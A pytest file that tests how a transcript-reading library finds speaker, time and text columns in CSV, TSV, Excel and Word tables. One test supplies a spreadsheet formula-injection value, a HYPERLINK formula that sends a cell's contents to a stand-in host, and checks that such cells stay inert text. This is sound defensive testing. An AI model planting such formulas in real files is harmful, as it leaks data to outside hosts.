"""Tables: columns found by name and by content, in any order and any separator."""

import datetime
import io

import pytest
from docx import Document
from openpyxl import Workbook

from inspired_analysis.errors import ReadingError
from inspired_analysis.reading import read


def book(rows, **sheets) -> bytes:
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    for name, others in sheets.items():
        sheet = workbook.create_sheet(name)
        for row in others:
            sheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("speaker,minute,text\nAnna,01:20,\"Yes, so.\"\nBen,01:25,No.\nAnna,01:30,Why?\n", "a.csv"),
        ("Sprecher;Text;Beginn\nAnna;Yes, so.;80\nBen;No.;85\nAnna;Why?;90\n", "b.csv"),
        ("0:01:20\tAnna\tYes, so.\n0:01:25\tBen\tNo.\n0:01:30\tAnna\tWhy?\n", "c.tsv"),
        ("id|Utterance|Who|Start|End\n1|Yes, so.|Anna|1:20|1:22\n2|No.|Ben|1:25|1:26\n3|Why?|Anna|1:30|\n", "d.csv"),
    ],
)  # fmt: skip
def test_columns_are_found(text, name, write, said):
    transcript = read(write(text, name))
    assert said(transcript) == [("Anna", "Yes, so."), ("Ben", "No."), ("Anna", "Why?")]
    assert list(transcript.turns["time_start"]) == [80.0, 85.0, 90.0]
    assert transcript.accounts[0].lost == 0
    assert transcript.turns["source"][1].endswith(":row 3" if name != "c.tsv" else ":row 2")


@pytest.mark.parametrize("text", [
    "#;Time;Name;Comment;Text\n1;0:01;Anna;good point;We need water.\n2;0:04;Ben;;The meter is dear.\n",
    "Participant name,Response\nAnna,We need water.\nBen,The meter is dear.\n",
])  # fmt: skip
def test_the_plainest_heading_is_the_talk_and_headings_may_be_of_two_words(text, write, said):
    assert said(read(write(text, "a.csv"))) == [("Anna", "We need water."), ("Ben", "The meter is dear.")]


def test_milliseconds_are_known_by_their_size(write):
    rows = "\n".join(f"Speaker {i % 2},{i * 4000},Sentence number {i}." for i in range(20))
    assert list(read(write(f"speaker,start,text\n{rows}", "a.csv")).turns["time_start"])[:3] == [0.0, 4.0, 8.0]


def test_other_columns_and_sheets_are_set_aside_with_what_stood_there(write, said):
    rows = [
        ("Name", "What was said", "Text", "Comment by coder"),
        ("Anna", "", "I think so.", "nice"),
        ("Ben", "", "No.", None),
    ]
    transcript = read(write(book(rows, Notes=[("Remember the milk",)]), "talk.xlsx"))
    assert said(transcript) == [("Anna", "I think so."), ("Ben", "No.")]
    excerpts = transcript.accounts[0].excerpts
    assert excerpts["other columns"] == ("nice",)
    assert excerpts["other sheets"] == ("Remember the milk",)
    assert any("others were left out: Notes" in note for note in transcript.notes)


def test_times_and_durations_of_a_workbook_are_seconds(write):
    anna = (datetime.time(0, 1, 20), datetime.timedelta(seconds=85), "Anna", "Yes, so.")
    rows = [("start", "end", "speaker", "text"), anna, (90, 95.5, "Ben", "No.")]
    turns = read(write(book(rows), "talk.xlsx")).turns
    assert list(turns["time_start"]) == [80.0, 90.0]
    assert list(turns["time_end"]) == [85.0, 95.5]


def test_cells_of_any_kind_are_text_never_run(write, said):
    text = 'speaker,text\n"=HYPERLINK(""http://x.example/?""&A2)",hello you\n@SUM(1),"-1, no."\nAnna,=1+1 is two.\n'
    labels = [label for label, _ in said(read(write(text, "a.csv")))]
    assert labels == ['=HYPERLINK("http://x.example/?"&A2)', "@SUM(1)", "Anna"]


def test_a_table_without_text_is_refused(write):
    for content, name in (("a,b\n1,2\n3,4\n", "a.csv"), (book([(1, 2), (3, 4)]), "a.xlsx"), (book([]), "b.xlsx")):
        with pytest.raises(ReadingError, match="column of text"):
            read(write(content, name))


def test_a_workbook_that_says_it_is_huge_is_read_by_what_it_holds(write):
    workbook = Workbook()
    workbook.active.append(("speaker", "text"))
    workbook.active.append(("Anna", "I think so."))
    workbook.active.cell(row=900_000, column=1, value="x")
    out = io.BytesIO()
    workbook.save(out)
    assert read(write(out.getvalue(), "talk.xlsx")).turns["text"][0] == "I think so."


def test_commas_in_what_is_said_are_no_separators(write):
    rows = "\n".join(f"{who};0{n};Well, the. Well, the. Well, the." for n, who in enumerate(("Anna", "Ben") * 3))
    turns = read(write(f"speaker;start;text\n{rows}\n", "a.csv")).turns
    assert turns["label"].tolist() == ["Anna", "Ben"] * 3
    assert set(turns["text"]) == {"Well, the. Well, the. Well, the."}


ROWS = [("Speaker", "Text"), ("Mod", "Why is it so?"), ("Anna", "It is dear."), ("", "Very."), ("Ben", "No."),
        ("Mod", "So.")]  # fmt: skip
TURNS = [("Mod", "Why is it so?"), ("Anna", "It is dear.\nVery."), ("Ben", "No."), ("Mod", "So.")]


def test_merged_cells_name_the_speaker_of_every_row_beside_them(write, said):
    workbook, document = Workbook(), Document()
    table = document.add_table(len(ROWS), 2)
    for i, row in enumerate(ROWS):
        workbook.active.append(row)
        for j, text in enumerate(row):
            table.cell(i, j).text = text
    workbook.active.merge_cells("A3:A4")
    table.cell(2, 0).merge(table.cell(3, 0))
    for made, name in ((workbook, "talk.xlsx"), (document, "talk.docx")):
        out = io.BytesIO()
        made.save(out)
        assert said(read(write(out.getvalue(), name))) == TURNS, name


def test_a_title_across_a_table_is_no_column(write, said):
    document = Document()
    table = document.add_table(len(ROWS) + 2, 2)
    rows = [("The water workshop in May", ""), *ROWS[:2], ("Part two", ""), *ROWS[2:3], ("Anna", "Very."), *ROWS[4:]]
    for i, row in enumerate(rows):
        for j, text in enumerate(row):
            table.cell(i, j).text = text
    for i in (0, 3):
        table.cell(i, 0).merge(table.cell(i, 1))
    out = io.BytesIO()
    document.save(out)
    transcript = read(write(out.getvalue(), "talk.docx"))
    assert said(transcript) == TURNS
    assert transcript.accounts[0].excerpts["stage directions"] == ("Part two",)


def test_headings_may_stand_below_what_the_table_is_about_and_come_again(write, said):
    rows = [("Project", "Water", ""), ("Date", "2024-05-12", ""), ("Time", "Speaker", "Utterance"),
            ("0:01", "Anna", "I think so."), ("0:05", "Ben", "No."), ("Time", "Speaker", "Utterance"),
            ("0:09", "Anna", "Why?")]  # fmt: skip
    for content, name in ((book(rows), "a.xlsx"), ("\n".join(";".join(row) for row in rows), "a.csv")):
        transcript = read(write(content, name))
        assert said(transcript) == [("Anna", "I think so."), ("Ben", "No."), ("Anna", "Why?")], name
        assert list(transcript.turns["time_start"]) == [1.0, 5.0, 9.0]


def test_columns_that_hold_talk_and_are_not_read_are_told(write, said):
    rows = "Speaker,Original,Translation\nAnna,C'est trop cher.,It is too dear.\nBen,Je suis d'accord.,I agree.\n"
    transcript = read(write(rows + "Anna,Pourquoi donc ?,But why?\n", "a.csv"))
    assert any("left out, though they hold text: “Translation”" in note for note in transcript.notes)
    rows = "Time,English,French\n0:01,I think so.,Je le pense vraiment.\n0:02,It is dear.,C'est beaucoup trop cher.\n"
    transcript = read(write(rows, "b.csv"))
    assert not transcript.turns["label"].any()
    assert any("left out, though they hold text" in note for note in transcript.notes)


@pytest.mark.parametrize("rows", [
    [("Time", "Anna", "Ben", "Notes"), ("0:01", "I think so.", "", "hm"), ("0:02", "", "No.", ""), ("0:03", "Why?")],
    [("Anna", "Ben"), ("I think so.", ""), ("", "No."), ("Why?", "")],
    [("Interviewer", "Respondent"), ("I think so.", "No."), ("Why?", "")],
])  # fmt: skip
def test_a_column_for_each_speaker_holds_their_turns(rows, write, said):
    names = rows[0] if "Anna" not in rows[0] else ("Anna", "Ben")
    rows = [(*row, *[""] * (len(rows[0]) - len(row))) for row in rows]
    document = Document()
    table = document.add_table(len(rows), len(rows[0]))
    for i, row in enumerate(rows):
        for j, text in enumerate(row):
            table.cell(i, j).text = text
    out = io.BytesIO()
    document.save(out)
    made = {"a.xlsx": book(rows), "a.csv": "\n".join(";".join(row) for row in rows), "a.docx": out.getvalue()}
    for name, content in made.items():
        transcript = read(write(content, name))
        assert said(transcript) == [(names[0], "I think so."), (names[1], "No."), (names[0], "Why?")], name
        assert transcript.accounts[0].lost == 0


def test_questions_are_no_speakers(write):
    rows = "No,Question,Answer\n1,What do you think?,It is too dear.\n2,Why?,It is dear.\n3,And then?,Nothing.\n"
    assert not read(write(rows, "a.csv")).turns["label"].any()


def test_times_with_film_frames_are_times(write, said):
    rows = "In,Out,Speaker,Text\n00:00:01:05,00:00:03:10,Anna,I think so.\n00:00:04:00,00:00:05:00,Ben,No.\n"
    assert list(read(write(rows, "a.csv")).turns["time_start"]) == [1.0, 4.0]
    said_at = ((1, "Anna", "I think so."), (4, "Ben", "10:30"), (7, "Anna", "Why?"), (9, "Ben", "So."))
    text = "".join(f"00:00:0{n}:00 - 00:00:0{n}:20\n{who}\n{words}\n\n" for n, who, words in said_at)
    turns = read(write(text)).turns
    assert list(zip(turns["time_start"], turns["label"], turns["text"], strict=True)) == list(said_at)


@pytest.mark.parametrize("text", [
    "Timespan\tContent\tSpeaker\n0:01.0 - 0:02.0\tI think so.\tAnna\n0:02.0 - 0:03.0\tNo.\tBen\n",
    "Start,Speaker,Text\n1,Anna,I think so.\n2,Ben,No.\n",
])  # fmt: skip
def test_a_table_under_the_name_of_a_text_is_a_table(text, write, said):
    assert said(read(write(text))) == [("Anna", "I think so."), ("Ben", "No.")]


def test_a_quotation_mark_that_opens_words_swallows_no_rows(write, said):
    talk = [("Anna", "I think so."), ("Ben", '"No, never" they said'), ("Anna", '"Why'), ("Ben", "So.")]
    rows = "".join(f"{who}\t{words}\n" for who, words in talk)
    assert said(read(write(f"speaker\ttext\n{rows}", "a.tsv"))) == talk
